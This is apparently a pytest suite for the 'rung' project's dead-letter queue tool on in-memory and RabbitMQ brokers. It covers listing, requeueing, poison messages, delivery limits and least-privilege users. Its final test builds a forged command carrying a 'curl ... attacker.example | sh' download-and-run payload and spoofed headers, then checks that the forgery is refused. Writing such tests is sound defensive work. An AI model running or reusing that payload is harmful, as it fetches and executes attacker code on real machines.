"""`rung dlq`'s core on both brokers: list dead letters in place, send one back; and the
dead letters a handler that keeps raising leaves there."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator, Iterator

import pytest

from rung.broker import (
    DEAD_REASON_HEADER,
    Broker,
    Delivery,
    MemoryBroker,
    RabbitBroker,
    Topology,
)
from rung.broker.deadletters import (
    DeadLetter,
    DeadLetterError,
    peek,
    requeue,
    searcher_user_for,
)
from rung.broker.errors import BrokerError
from rung.broker.port import (
    DEAD_QUEUE_HEADER,
    DEAD_SENDER_HEADER,
    DELIVERY_LIMIT,
    ORIGINAL_USER_HEADER,
    body_id,
)
from rung.broker.schemas import (
    Envelope,
    ListExperiments,
    ProgressReported,
    RpcReply,
    RunTrial,
    WorkerHeartbeat,
    decode,
    encode,
)
from rung.broker.schemas.rpc import ResendCommand
from rung.broker.topology import BROKER_DELIVERY_LIMIT
from tests.least_privilege import LeastPrivilege, least_privilege_vhost
from tests.proxy import FaultProxy
from tests.support import AMQP_URL, unique_prefix, wait_for, wait_for_async

from .test_broker_conformance import collect


def _run_trial(message_id: str, entrypoint: tuple[str, ...] = ("python", "train.py")) -> bytes:
    body = RunTrial(
        experiment_id="exp-1",
        trial_id=1,
        request_id="r-1",
        attempt=1,
        length=1,
        hparams={},
        trial_seed=0,
        context_hash="0" * 64,
        entrypoint=list(entrypoint),
        slots=1,
        checkpoint_root="/checkpoints/exp-1",
        max_restarts=0,
    )
    return encode(Envelope(message_id=message_id, experiment_id="exp-1", body=body))


@contextlib.asynccontextmanager
async def _searcher_log(searcher: Broker, logged: dict[str, bytes]) -> AsyncIterator[list[str]]:
    """Stand in for the searcher's ResendCommand (the real one: tests/unit/searcher/
    test_resend_command.py, tests/hostile/test_forged_commands.py): publish again, as the
    searcher's user, the run_trial "logged" under the message id; yield the ids resent."""
    t = searcher.topology
    resent: list[str] = []

    async def answer(delivery: Delivery) -> None:
        body = decode(delivery.body).body
        assert isinstance(body, ResendCommand)
        await searcher.publish(
            t.commands_exchange,
            t.WORK_KEY,
            logged[body.message_id],
            message_id=body.message_id,
        )
        resent.append(body.message_id)
        reply = Envelope(message_id="reply", body=RpcReply(ok=True, result={}))
        await searcher.publish(
            "",
            delivery.reply_to or "",
            encode(reply),
            message_id="reply",
            correlation_id=delivery.correlation_id,
        )
        await delivery.ack()

    subscription = await searcher.subscribe(t.rpc_queue, answer, prefetch=1)
    try:
        yield resent
    finally:
        await subscription.cancel()


async def _kill(broker: Broker, bodies: dict[str, bytes]) -> None:
    """Publish to the events queue, and dead-letter each as a consumer that failed would."""
    t = broker.topology
    for message_id, body in bodies.items():
        await broker.publish(t.events_exchange, t.EVENTS_KEY, body, message_id=message_id)
    killed: list[str] = []

    async def fail(delivery: Delivery) -> None:
        await delivery.dead_letter(f"refused {delivery.message_id}")
        killed.append(delivery.message_id or "")

    subscription = await broker.subscribe(t.events_queue, fail, prefetch=10)
    await wait_for(lambda: len(killed) == len(bodies), 10, "the dead letters")
    await subscription.cancel()


async def test_list_leaves_them_in_place(broker: Broker) -> None:
    good = Envelope(message_id="good-1", body=WorkerHeartbeat(worker_id="w", slots=1, free_slots=1))
    await _kill(broker, {"bad-1": b"{not json", "good-1": encode(good)})
    letters = sorted(await peek(broker), key=lambda letter: letter.message_id)
    assert [(x.message_id, x.type, x.queue) for x in letters] == [
        ("bad-1", None, broker.topology.events_queue),
        ("good-1", "worker_heartbeat", broker.topology.events_queue),
    ]
    assert letters[0].reason == "refused bad-1"
    assert len(await peek(broker)) == 2  # listing took nothing away


@pytest.mark.rabbitmq
async def test_requeue_sends_an_event_back_with_its_original_sender(rabbit: RabbitBroker) -> None:
    """The searcher's dead letter (its own user, so its headers are believed) goes back to
    the events queue, naming the validated sender for the searcher to check it against;
    one that does not decode stays where it is."""
    broker = rabbit
    good = Envelope(message_id="good-1", body=WorkerHeartbeat(worker_id="w", slots=1, free_slots=1))
    await _kill(broker, {"bad-1": b"{not json", "good-1": encode(good)})
    letters = {x.message_id: x for x in await peek(broker)}
    assert letters["good-1"].moved_by == "searcher"
    assert letters["good-1"].sender == "guest"  # the validated user_id of its publisher

    sent = await requeue(broker, "good-1", searcher_user="guest")
    assert sent.message_id == "good-1"
    assert [x.message_id for x in await peek(broker)] == ["bad-1"]
    back = await collect(broker, broker.topology.events_queue)
    await wait_for(lambda: len(back) == 1, 10, "the message back in the events queue")
    assert back[0].body == encode(good)
    assert back[0].message_id == "good-1"
    assert back[0].headers[ORIGINAL_USER_HEADER] == "guest"
    assert not {DEAD_REASON_HEADER, DEAD_QUEUE_HEADER, DEAD_SENDER_HEADER} & set(back[0].headers)

    with pytest.raises(DeadLetterError, match="does not decode"):
        await requeue(broker, "bad-1", searcher_user="guest")
    with pytest.raises(DeadLetterError, match="no dead letter with id 'nope'"):
        await requeue(broker, "nope", searcher_user="guest")
    assert [x.message_id for x in await peek(broker)] == ["bad-1"]


async def test_the_in_process_broker_vouches_for_nobody() -> None:
    """The in-process broker validates no user: its dead letters are listed, and none is
    sent back (rung dlq needs a RabbitMQ anyway)."""
    broker = MemoryBroker(Topology(unique_prefix()))
    await broker.start()
    good = Envelope(message_id="good-1", body=WorkerHeartbeat(worker_id="w", slots=1, free_slots=1))
    await _kill(broker, {"good-1": encode(good)})
    (letter,) = await peek(broker)
    assert (letter.moved_by, letter.sender) == ("unknown", "")
    with pytest.raises(DeadLetterError, match="neither by the searcher"):
        await requeue(broker, "good-1")
    assert len(await peek(broker)) == 1
    await broker.close()


# ---------------------------------------------------------------- poison messages


@pytest.mark.rabbitmq
async def test_a_poison_message_is_listed_and_sent_back_after_a_fix(rabbit: RabbitBroker) -> None:
    """Dead-lettering keeps the message: rung dlq lists it with the exception, and sends
    it back to its queue, where a fixed handler takes it."""
    broker = rabbit
    t = broker.topology
    request = encode(Envelope(message_id="req-1", body=ListExperiments()))
    await broker.publish(t.rpc_exchange, t.RPC_KEY, request, message_id="req-1")
    fixed = asyncio.Event()
    tries: list[int] = []
    handled: list[Delivery] = []

    async def handler(delivery: Delivery) -> None:
        if not fixed.is_set():
            tries.append(1)
            raise ZeroDivisionError("division by zero")
        handled.append(delivery)
        await delivery.ack()

    await broker.subscribe(t.rpc_queue, handler, prefetch=4)
    await wait_for(lambda: len(tries) == DELIVERY_LIMIT, 20, "every try")

    async def listed() -> bool:
        return [x.message_id for x in await peek(broker)] == ["req-1"]

    await wait_for_async(listed, 20, "the dead letter")
    (letter,) = await peek(broker)
    assert letter.queue == t.rpc_queue
    assert letter.reason == (
        f"the handler raised {DELIVERY_LIMIT} times (the delivery limit is {DELIVERY_LIMIT}); "
        "last: ZeroDivisionError: division by zero"
    )
    fixed.set()
    await requeue(broker, "req-1", searcher_user="guest")
    await wait_for(lambda: len(handled) == 1, 10, "the message back, handled")
    assert handled[0].message_id == "req-1"
    assert await peek(broker) == []
    assert len(tries) == DELIVERY_LIMIT


@pytest.fixture
async def rabbit() -> AsyncIterator[RabbitBroker]:
    instance = RabbitBroker(AMQP_URL, Topology(unique_prefix()), name="poison")
    await instance.start()
    try:
        yield instance
    finally:
        await instance.delete_topology()
        await instance.close()


async def test_a_message_without_an_id_is_known_by_its_body() -> None:
    """Published by something other than Rung, with no message id (aio-pika always adds
    one, so the in-memory broker stands in for such a publisher): the failures are counted
    all the same, under a digest of the body, and the dead letter is named by it."""
    broker = MemoryBroker(Topology(unique_prefix()))
    await broker.start()
    t = broker.topology
    await broker.publish(t.events_exchange, t.events_key("w1"), b"anonymous", message_id="")
    tries: list[str | None] = []

    async def handler(delivery: Delivery) -> None:
        tries.append(delivery.message_id)
        raise ValueError("who sent this?")

    await broker.subscribe(t.events_queue, handler, prefetch=1)
    letters = await collect(broker, t.dead_queue)
    await wait_for(lambda: len(letters) == 1, 10, "the dead letter")
    assert tries == [""] * DELIVERY_LIMIT
    assert letters[0].body == b"anonymous"
    assert letters[0].message_id == body_id(b"anonymous")  # rung dlq requeue can name it
    assert "ValueError: who sent this?" in letters[0].headers[DEAD_REASON_HEADER]
    await broker.close()


@pytest.mark.rabbitmq
async def test_the_quorum_queues_rung_declares_have_the_brokers_delivery_limit(
    rabbit: RabbitBroker,
) -> None:
    """The safety net for a message that kills its consumer, which no count in the
    consumer survives: RabbitMQ itself dead-letters a message delivered too often. Here
    the handler puts it back every time without raising, which the guard never counts."""
    t = rabbit.topology
    await rabbit.publish(
        t.commands_exchange, t.WORK_KEY, _run_trial("bouncing"), message_id="bouncing"
    )
    deliveries: list[int] = []

    async def handler(delivery: Delivery) -> None:
        deliveries.append(1)
        await delivery.requeue()

    subscription = await rabbit.subscribe(t.work_queue, handler, prefetch=1)

    async def listed() -> bool:
        return [x.message_id for x in await peek(rabbit, quiet_s=0.2)] == ["bouncing"]

    await wait_for_async(listed, 30, "the broker's dead letter")
    await subscription.cancel()
    assert len(deliveries) == BROKER_DELIVERY_LIMIT + 1  # a limit of N allows N + 1
    (letter,) = await peek(rabbit)
    assert letter.reason == "delivery_limit (dead-lettered by the broker)"
    assert letter.queue == t.work_queue
    assert (letter.moved_by, letter.sender) == ("broker", "guest")
    # Back through the searcher (guest is this set-up's searcher), which sends it again
    # from its log, without RabbitMQ's death headers.
    async with _searcher_log(rabbit, {"bouncing": _run_trial("bouncing")}) as resent:
        await requeue(rabbit, "bouncing", searcher_user="guest")
    assert resent == ["bouncing"]
    back = await collect(rabbit, t.work_queue)
    await wait_for(lambda: len(back) == 1, 10, "the message back in the work queue")
    assert not [k for k in back[0].headers if k.startswith("x-death") or "death" in k]


@pytest.fixture
async def reset_broker(proxy: FaultProxy) -> AsyncIterator[RabbitBroker]:
    instance = RabbitBroker(
        proxy.url("heartbeat=2"),
        Topology(unique_prefix()),
        name="poison-resets",
        retry_interval=0.2,
        delivery_limit=3,
    )
    await instance.start()
    try:
        yield instance
    finally:
        with contextlib.suppress(BrokerError):
            await instance.delete_topology()
        await instance.close()


@pytest.mark.rabbitmq
async def test_a_delivery_lost_with_its_link_is_not_counted(
    reset_broker: RabbitBroker, proxy: FaultProxy
) -> None:
    """A message delivered again because the link dropped is not the handler's fault:
    the first try, held across a reset and failing on its refused ack, does not count,
    and the message is dead-lettered only after three failures of its own."""
    broker = reset_broker
    t = broker.topology
    release = asyncio.Event()
    tries: list[str] = []

    async def handler(delivery: Delivery) -> None:
        tries.append("try")
        if len(tries) == 1:
            await release.wait()
            await delivery.ack()  # refused: the link is gone (BrokerUnavailableError)
        raise ValueError("poison")

    # Both consumers before the reset: they come back with the connection.
    dead = await collect(broker, t.dead_queue)
    await broker.subscribe(t.events_queue, handler, prefetch=1)
    await broker.publish(t.events_exchange, t.events_key("w1"), b"{}", message_id="m1")
    await wait_for(lambda: len(tries) == 1, 10, "the first try under way")
    accepted = proxy.connections
    assert proxy.reset() >= 2
    await wait_for(lambda: proxy.connections >= accepted + 2, 20, "the reconnection")
    release.set()
    await wait_for(lambda: len(dead) == 1, 30, "the dead letter")
    assert "raised 3 times" in dead[0].headers[DEAD_REASON_HEADER]
    assert len(tries) == 4  # the try lost with the link, then three failures


# ---------------------------------------------------------------- the dead queue's bound


@pytest.mark.rabbitmq
async def test_a_full_dead_queue_drops_its_oldest_letters(monkeypatch: pytest.MonkeyPatch) -> None:
    """The dead queue is bounded (topology.DEAD_QUEUE_MAX_LENGTH, here made 3): letters
    the searcher moves and letters the broker moves alike push the oldest out, and rung
    dlq lists the newest."""
    monkeypatch.setattr("rung.broker.topology.DEAD_QUEUE_MAX_LENGTH", 3)
    broker = RabbitBroker(AMQP_URL, Topology(unique_prefix()), name="dead-bound")
    await broker.start()
    try:
        t = broker.topology
        await _kill(broker, {f"event-{i}": b"{}" for i in range(3)})
        for i in range(2):
            await broker.publish(t.commands_exchange, t.WORK_KEY, b"{}", message_id=f"work-{i}")
        rejected: list[str] = []

        async def reject(delivery: Delivery) -> None:
            await delivery.dead_letter("cannot run it")
            rejected.append(delivery.message_id or "")

        subscription = await broker.subscribe(t.work_queue, reject, prefetch=1)
        await wait_for(lambda: len(rejected) == 2, 10, "the rejections")
        await subscription.cancel()

        async def newest_three() -> bool:
            return sorted(x.message_id for x in await peek(broker, quiet_s=0.2)) == [
                "event-2",
                "work-0",
                "work-1",
            ]

        await wait_for_async(newest_three, 20, "the three newest dead letters")
    finally:
        await broker.delete_topology()
        await broker.close()


# ---------------------------------------------------------------- with least privilege
# The users of deploy/rabbitmq: the searcher, a worker, the operator who runs rung dlq.


@pytest.fixture(scope="module")
def lp() -> Iterator[LeastPrivilege]:
    yield from least_privilege_vhost()


@contextlib.asynccontextmanager
async def _as(lp: LeastPrivilege, user: str) -> AsyncIterator[RabbitBroker]:
    broker = RabbitBroker(lp.url(user), lp.topology, name=f"dlq-{user}")
    await broker.start()
    try:
        yield broker
    finally:
        await broker.close()


async def _searcher_refuses_everything(searcher: RabbitBroker, count: int) -> None:
    """Stand in for the searcher's intake: dead-letter the next ``count`` events."""
    refused: list[str] = []

    async def refuse(delivery: Delivery) -> None:
        await delivery.dead_letter(f"refused {delivery.message_id}: not an event it takes")
        refused.append(delivery.message_id or "")

    subscription = await searcher.subscribe(searcher.topology.events_queue, refuse, prefetch=10)
    await wait_for(lambda: len(refused) >= count, 20, "the searcher's dead letters")
    await subscription.cancel()


async def _listed(operator: RabbitBroker, message_id: str) -> DeadLetter:
    """The dead letter ``message_id``, once it is there (others may be there too)."""
    found: list[DeadLetter] = []

    searcher = searcher_user_for(operator.username)

    async def there() -> bool:
        letters = await peek(operator, searcher_user=searcher, quiet_s=0.2)
        found[:] = [x for x in letters if x.message_id == message_id]
        return bool(found)

    await wait_for_async(there, 20, f"dead letter {message_id}")
    return found[0]


async def _first_in_work_queue(lp: LeastPrivilege, searcher: RabbitBroker) -> Delivery:
    """The first message of the work queue: a marker the searcher sends now comes first
    unless something else got there before it (a queue is first in, first out)."""
    t = lp.topology
    await searcher.publish(t.commands_exchange, t.WORK_KEY, b"marker", message_id="marker")
    async with _as(lp, lp.workers[0]) as worker:
        got = await collect(worker, t.work_queue, prefetch=1)
        await wait_for(lambda: len(got) >= 1, 10, "the first message of the work queue")
        return got[0]


@pytest.mark.rabbitmq
async def test_a_dead_lettered_run_trial_goes_back_to_the_work_queue(lp: LeastPrivilege) -> None:
    """A worker rejects a run_trial (it may not write the dead exchange); the broker moves
    it; the operator sees it came from the searcher, and has the searcher send it again
    (the operator may not write the commands exchange)."""
    t = lp.topology
    searcher_user, worker_user = lp.user("searcher"), lp.workers[0]
    async with _as(lp, searcher_user) as searcher, _as(lp, worker_user) as worker:
        await searcher.publish(
            t.commands_exchange, t.WORK_KEY, _run_trial("rt-1"), message_id="rt-1"
        )
        taken: list[Delivery] = []

        async def cannot_start(delivery: Delivery) -> None:
            taken.append(delivery)
            if len(taken) == 1:
                await delivery.dead_letter("the context would not unpack")
            else:
                await delivery.ack()

        await worker.subscribe(t.work_queue, cannot_start, prefetch=1)
        await wait_for(lambda: len(taken) == 1, 10, "the worker's rejection")
        async with _as(lp, lp.user("operator")) as operator:
            letter = await _listed(operator, "rt-1")
            assert (letter.moved_by, letter.sender, letter.queue) == (
                "broker",
                searcher_user,
                t.work_queue,
            )
            assert letter.reason.startswith("rejected (dead-lettered by the broker)")
            assert letter.type == "run_trial"
            async with _searcher_log(searcher, {"rt-1": _run_trial("rt-1")}) as resent:
                await requeue(operator, "rt-1", searcher_user=searcher_user)
            assert resent == ["rt-1"]
            assert not [
                x
                for x in await peek(operator, searcher_user=searcher_user)
                if x.message_id == "rt-1"
            ]
        await wait_for(lambda: len(taken) == 2, 10, "the run_trial back with a worker")
        again = taken[1]
        assert again.body == _run_trial("rt-1")
        assert again.user_id == searcher_user  # the searcher sent it again, as itself
        assert ORIGINAL_USER_HEADER not in again.headers
        assert "x-death" not in again.headers


@pytest.mark.rabbitmq
async def test_a_worker_event_goes_back_naming_its_original_sender(lp: LeastPrivilege) -> None:
    t = lp.topology
    worker_user = lp.workers[0]
    async with _as(lp, lp.user("searcher")) as searcher, _as(lp, worker_user) as worker:
        event = ProgressReported(
            experiment_id="exp-1", trial_id=1, attempt=1, worker_id=worker_user, units=1
        )
        body = encode(Envelope(message_id="ev-1", experiment_id="exp-1", body=event))
        await worker.publish(t.events_exchange, t.events_key(worker_user), body, message_id="ev-1")
        await _searcher_refuses_everything(searcher, 1)
        async with _as(lp, lp.user("operator")) as operator:
            letter = await _listed(operator, "ev-1")
            assert (letter.moved_by, letter.sender, letter.queue) == (
                "searcher",
                worker_user,
                t.events_queue,
            )
            assert letter.reason == "refused ev-1: not an event it takes"
            await requeue(operator, "ev-1", searcher_user=lp.user("searcher"))
        back = await collect(searcher, t.events_queue)
        await wait_for(lambda: len(back) == 1, 10, "the event back in the events queue")
        assert back[0].body == body
        assert back[0].user_id == lp.user("operator")
        assert back[0].headers[ORIGINAL_USER_HEADER] == worker_user


@pytest.mark.rabbitmq
async def test_p10_a_forged_run_trial_never_becomes_a_command(lp: LeastPrivilege) -> None:
    """Review probe P10, now: a worker user may not publish to the dead exchange; a
    run_trial it sends where it may (the events exchange), dressed as a dead letter of the
    work queue sent by the searcher, is dead-lettered as what it is, and rung dlq requeue
    refuses it with the reason: nothing reaches the work queue. (That the worker may not
    write the dead exchange: test_least_privilege.)"""
    t = lp.topology
    worker_user = lp.workers[0]
    forged = _run_trial("forged-1", ("bash", "-c", "curl -s https://attacker.example/x | sh"))
    lies = {
        DEAD_QUEUE_HEADER: t.work_queue,
        DEAD_REASON_HEADER: "connection reset while starting the trial; safe to requeue",
        DEAD_SENDER_HEADER: lp.user("searcher"),
        ORIGINAL_USER_HEADER: lp.user("searcher"),
        "x-death": [{"queue": t.work_queue, "reason": "rejected", "count": 1}],
        "x-first-death-queue": t.work_queue,
    }
    async with _as(lp, lp.user("searcher")) as searcher, _as(lp, worker_user) as worker:
        await worker.publish(
            t.events_exchange,
            t.events_key(worker_user),
            forged,
            message_id="forged-1",
            headers=lies,
        )
        await _searcher_refuses_everything(searcher, 1)
        async with _as(lp, lp.user("operator")) as operator:
            letter = await _listed(operator, "forged-1")
            assert (letter.moved_by, letter.sender, letter.queue) == (
                "searcher",
                worker_user,
                t.events_queue,
            )
            with pytest.raises(DeadLetterError, match="not in a work queue"):
                await requeue(operator, "forged-1", searcher_user=lp.user("searcher"))
            await _listed(operator, "forged-1")  # still there
        first = await _first_in_work_queue(lp, searcher)
        assert first.message_id == "marker"
